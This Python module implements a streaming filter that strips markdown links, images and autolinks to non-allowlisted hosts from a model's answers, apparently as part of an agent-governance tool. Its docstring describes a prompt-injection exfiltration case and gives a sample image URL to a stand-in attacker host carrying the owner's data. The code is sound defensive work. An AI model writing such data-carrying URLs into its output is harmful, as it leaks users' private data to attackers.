"""Links in an answer's text to hosts off a list, reduced to their text, at any split of a stream.

A model that read an attacker's text can be told to write the owner's data into a URL: an image
(`![x](https://evil.example/p.png?d=…)`) is fetched by the reader's client as soon as it is shown,
a link when it is clicked. `LinkRewriter` reads text as it arrives, in chunks split anywhere, and
writes it out with each markdown image or link to a host its globs do not allow replaced by its text
alone (an image by its alt text); everything else passes byte for byte. A URL naming no host (`#x`,
`docs/y`) leads to the page's own site and passes; one whose scheme names no host (`mailto:`,
`javascript:`, `data:`) is never allowed (`link_hosts.py`).

- Inline `[text](url "title")` and `![alt](url)`: reduced to the text, itself rewritten (a badge's
  image inside a link is judged on its own).
- Reference definitions `[label]: url`: one to a host off the list is reduced to its label, so the
  references to it (`[text][label]`) are left as plain text. Only the definition holds a URL.
- Autolinks `<https://…>` (any scheme followed by `//`): one off the list that carries data (user
  information, a port, a path other than `/`, a query or a fragment) is reduced to its host name;
  one that carries nothing but its host passes. A `mailto:` one with a query is reduced to its
  address. One naming no host (`<std::string>` in C++, `<urn:x>`) passes: it sends nothing.
- A `](` whose `[` was released (below) is still judged: its destination off the list is dropped.

Only what may still become a link is held back: from an unfinished `[`, `![`, `](` or `<scheme:`,
and a last `!`, `]` or `<`. At most `MAX_HELD` characters are held from a construct's start. A
construct still unfinished at that bound is decided on what was seen, failing closed: a link text
that long releases its `[` as text (its `](url)`, when it comes, is judged as above); a destination
that long is released unchanged only when its host was read whole within the bound and is allowed;
otherwise the link's text is released and the rest of the destination is dropped where it streams,
up to the `)` that closes it (or white space). The same decisions are made on a whole text, so the
output is the same however the text is split.

Wider than a renderer on purpose: a link inside a code span is judged as any other; raw HTML
(`<img src=…>`) and bare URLs are not read here."""

from __future__ import annotations

import re
from dataclasses import dataclass

from tollgate.governance.agents.link_hosts import LinkHosts, read_url

# The characters held from a construct's start before it is decided on what was seen.
MAX_HELD = 4096
# CommonMark's bound on a reference definition's label.
_LABEL_MAX = 999
# The nesting of brackets in a link text, or of parentheses in a destination, read (CommonMark
# asks for three): deeper, a link text is released as text and a destination decided as at the
# bound, so that a run of `[[[[` costs no more than a line of text.
_MAX_DEPTH = 32
_TRIGGER = re.compile(r"!?\[|\]\(|<[A-Za-z]")
_BRACKETS = re.compile(r"[\[\]\n]")
_SPACES = re.compile(r"[ \t]*")
_SPACE = re.compile(r"[ \t]*\n?[ \t]*")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*)(?::([^<>\x00-\x20]*)(>)?)?")
_DEST_STOP = re.compile(r"[()\x00-\x20]")
_AUTO_STOP = re.compile(r"[<>\x00-\x20]")
_ANGLE_END = re.compile(r"[<>\n]")
_TITLE = {'"': re.compile(r'"[^"]*"'), "'": re.compile(r"'[^']*'"), "(": re.compile(r"\([^()]*\)")}


@dataclass(slots=True)
class _Drop:
    """The rest of a destination dropped as it streams: up to `)` at depth 0 (dropped with it) or
    white space (`autolink`: up to `>`, dropped, or white space or `<`)."""

    autolink: bool
    depth: int = 0


class _Need(Exception):
    """More text is needed to decide the construct at hand."""


class LinkRewriter:
    """Feed it an answer's text as it streams (`feed`), then `end()`; what each returns is the text to
    pass on."""

    def __init__(self, hosts: LinkHosts) -> None:
        self._hosts = hosts
        self._held = ""
        self._drop: _Drop | None = None
        # How far the link text of the construct held at the start was read: (where the reading
        # stopped, bracket depth there), relative to the construct's start; so that a text held
        # across many chunks is read once, not once per chunk.
        self._read: tuple[int, int] | None = None
        # How many links, images and definitions were reduced so far (for the record: never a URL).
        self.redacted = 0

    def copy(self) -> LinkRewriter:
        """The rewriter as it stands, to go on from here apart."""
        other = LinkRewriter(self._hosts)
        other._held, other._read, other.redacted = self._held, self._read, self.redacted
        other._drop = _Drop(self._drop.autolink, self._drop.depth) if self._drop is not None else None
        return other

    @property
    def held_text(self) -> str:
        """What of the text fed is held, not yet decided: the end of it."""
        return self._held

    @property
    def held_bytes(self) -> int:
        """How many bytes (UTF-8) of what was fed are held, not yet decided."""
        return len(self._held.encode("utf-8", "surrogatepass"))

    def feed(self, chunk: str) -> str:
        out, self._held = self._scan(self._held + chunk, False)
        return out

    def end(self) -> str:
        out, _ = self._scan(self._held, True)
        self._held, self._drop, self._read = "", None, None
        return out

    def rewrite(self, text: str) -> str:
        """A whole text, rewritten (as `feed` then `end` would)."""
        return self.feed(text) + self.end()

    def _inner(self, text: str) -> str:
        """A link's text, complete: rewritten on its own."""
        if not _TRIGGER.search(text):
            return text
        inner = LinkRewriter(self._hosts)
        out = inner.rewrite(text)
        self.redacted += inner.redacted
        return out

    def _reduced[T](self, result: T) -> T:
        """A construct reduced to its text (counted)."""
        self.redacted += 1
        return result

    def _scan(self, s: str, final: bool) -> tuple[str, str]:
        out: list[str] = []
        i, n = 0, len(s)
        while True:
            if self._drop is not None:
                i = self._dropping(s, i)
                if self._drop is not None:
                    return "".join(out), ""
            m = _TRIGGER.search(s, i)
            if m is None:
                keep = 1 if not final and n > i and s[-1] in "!]<" else 0
                out.append(s[i : n - keep])
                return "".join(out), s[n - keep :]
            at = m.start()
            out.append(s[i:at])
            try:
                text, i = self._construct(s, at, final)
            except _Need:
                return "".join(out), s[at:]
            self._read = None
            out.append(text)

    def _dropping(self, s: str, i: int) -> int:
        drop = self._drop
        assert drop is not None
        stop = _AUTO_STOP if drop.autolink else _DEST_STOP
        while (m := stop.search(s, i)) is not None:
            c, i = m.group(), m.end()
            if drop.autolink:
                self._drop = None
                return i if c == ">" else i - 1
            if c == "(":
                drop.depth += 1
            elif c == ")" and drop.depth:
                drop.depth -= 1
            else:
                self._drop = None
                return i if c == ")" else i - 1
        return len(s)

    def _construct(self, s: str, at: int, final: bool) -> tuple[str, int]:
        """The construct starting at `at`, rewritten, and where the scan goes on."""
        limit = min(len(s), at + MAX_HELD)
        bounded = limit == at + MAX_HELD
        if s[at] == "<":
            return self._autolink(s, at, limit, bounded, final)
        if s[at] == "]":
            return self._orphan(s, at, limit, bounded, final)
        opening = at + (s[at] == "!")
        plain = (s[at : opening + 1], opening + 1)
        close = self._text_end(s, at, opening + 1, limit)
        if close is None:
            if bounded or final:
                return plain
            raise _Need
        if close < 0:
            return plain
        if close + 1 >= limit:
            if bounded or final:
                return plain
            raise _Need
        after = s[close + 1]
        if after == "(":
            return self._inline(s, at, opening, close, limit, bounded, final) or plain
        if after == ":" and opening == at and close - opening - 1 <= _LABEL_MAX:
            return self._definition(s, at, close, limit, bounded, final) or plain
        return plain

    def _text_end(self, s: str, at: int, start: int, limit: int) -> int | None:
        """The `]` closing a link text from `start` (brackets balanced); -1 where a blank line ends
        it first; None where `limit` comes first (where it stopped kept in `_read`)."""
        depth = 0
        if at == 0 and self._read is not None:
            start, depth = self._read
        for m in _BRACKETS.finditer(s, start, limit):
            c = m.group()
            if c == "\n":
                spaces = _SPACES.match(s, m.end(), limit)
                assert spaces is not None
                if spaces.end() == limit:
                    self._read = (m.start() - at, depth)
                    return None
                if s[spaces.end()] == "\n":
                    return -1
            elif c == "[":
                depth += 1
                if depth > _MAX_DEPTH:
                    return -1
            elif depth:
                depth -= 1
            else:
                return m.start()
        self._read = (limit - at, depth)
        return None

    def _destination(self, s: str, p: int, limit: int, bounded: bool, final: bool) -> tuple[str, int, int, bool] | None:
        """The destination from `p` (after `(` or `:`): (url, its end, paren depth there, whether it
        was cut: at the bound or too deeply nested, to be decided on what was seen); None where it is
        no destination. Raises `_Need`."""
        space = _SPACE.match(s, p, limit)
        assert space is not None
        q = space.end()
        if q >= limit:
            if bounded or final:
                return None
            raise _Need
        if s[q] == "<":
            angle = _ANGLE_END.search(s, q + 1, limit)
            if angle is not None:
                k = angle.start()
                return (s[q + 1 : k], k + 1, 0, False) if s[k] == ">" else None
            if bounded or final:
                return s[q + 1 : limit], limit, 0, bounded
            raise _Need
        depth = 0
        k = q
        while (m := _DEST_STOP.search(s, k, limit)) is not None:
            c, k = m.group(), m.end()
            if c == "(":
                depth += 1
                if depth > _MAX_DEPTH:
                    return s[q:k], k, depth, True
            elif c == ")" and depth:
                depth -= 1
            else:
                return s[q : k - 1], k - 1, 0, False
        if bounded or final:
            return s[q:limit], limit, depth, bounded
        raise _Need

    def _allowed_prefix(self, url: str) -> bool:
        """Whether a destination cut at the bound is known to lead to an allowed host."""
        read = read_url(url)
        return read.ended and bool(read.host) and self._hosts.allows_host(read.host)

    def _inline(
        self, s: str, at: int, opening: int, close: int, limit: int, bounded: bool, final: bool
    ) -> tuple[str, int] | None:
        dest = self._destination(s, close + 2, limit, bounded, final)
        if dest is None:
            return None
        url, end, depth, cut = dest
        text = s[opening + 1 : close]
        if end == limit and not cut:
            if final:
                return None  # unfinished at the end: no link; its `](` is judged as an orphan's
            if not bounded:
                raise _Need
            cut = True
        if cut:
            if self._allowed_prefix(url):
                return s[at : opening + 1] + self._inner(text) + s[close:end], end
            self._drop = _Drop(False, depth)
            return self._reduced(self._inner(text)), end
        rest = _SPACE.match(s, end, limit)
        assert rest is not None
        k = rest.end()
        if k < limit and s[k] in _TITLE and k > end:
            title = _TITLE[s[k]].match(s, k, limit)
            if title is None:
                if not (bounded or final) and "\n\n" not in s[k:limit]:
                    raise _Need
                return None
            tail = _SPACE.match(s, title.end(), limit)
            assert tail is not None
            k = tail.end()
        if k >= limit:
            if bounded or final:
                return None
            raise _Need
        if s[k] != ")":
            return None
        if self._hosts.allows(url):
            return s[at : opening + 1] + self._inner(text) + s[close : k + 1], k + 1
        return self._reduced(self._inner(text)), k + 1

    def _definition(
        self, s: str, at: int, close: int, limit: int, bounded: bool, final: bool
    ) -> tuple[str, int] | None:
        dest = self._destination(s, close + 2, limit, bounded, final)
        if dest is None:
            return None
        url, end, depth, cut = dest
        if not url:
            return None
        if self._allowed_prefix(url) if cut else self._hosts.allows(url):
            return s[at:end], end
        if cut:
            self._drop = _Drop(False, depth)
        return self._reduced(self._inner(s[at + 1 : close])), end

    def _orphan(self, s: str, at: int, limit: int, bounded: bool, final: bool) -> tuple[str, int]:
        """A `](` no link text came before (its `[` released): its destination judged alone."""
        dest = self._destination(s, at + 2, limit, bounded, final)
        if dest is None:
            return s[at : at + 2], at + 2
        url, end, depth, cut = dest
        if cut:
            if self._allowed_prefix(url):
                return s[at:end], end
            self._drop = _Drop(False, depth)
            return self._reduced("]"), end
        if self._hosts.allows(url):
            return s[at:end], end
        return self._reduced("]"), end + (end < limit and s[end] == ")")

    def _autolink(self, s: str, at: int, limit: int, bounded: bool, final: bool) -> tuple[str, int]:
        m = _AUTOLINK.match(s, at, limit)
        assert m is not None
        plain = ("<", at + 1)
        if m.group(3) is None:
            if m.end() < limit or len(m.group(1)) > 32:
                return plain
            if not bounded:
                if final:
                    return plain
                raise _Need
            if m.group(2) is None:
                return plain
        if len(m.group(1)) > 32 or m.group(2) is None:
            return plain
        scheme, rest = m.group(1).lower(), m.group(2)
        if scheme not in ("http", "https", "mailto") and not rest.startswith("//"):
            return m.group(), m.end()  # names no host (`<std::string>`)
        read = read_url(f"https:{rest}" if scheme != "mailto" else "mailto:")
        if m.group(3) is None:  # at the bound
            if read.ended and read.host and self._hosts.allows_host(read.host):
                return s[at:limit], limit
            self._drop = _Drop(True)
            return self._reduced(read.host or ""), limit
        if scheme == "mailto":
            address, query, _ = rest.partition("?")
            return (self._reduced(address) if query else m.group()), m.end()
        if read.host and (self._hosts.allows_host(read.host) or not read.extra):
            return m.group(), m.end()
        return self._reduced(read.host or ""), m.end()
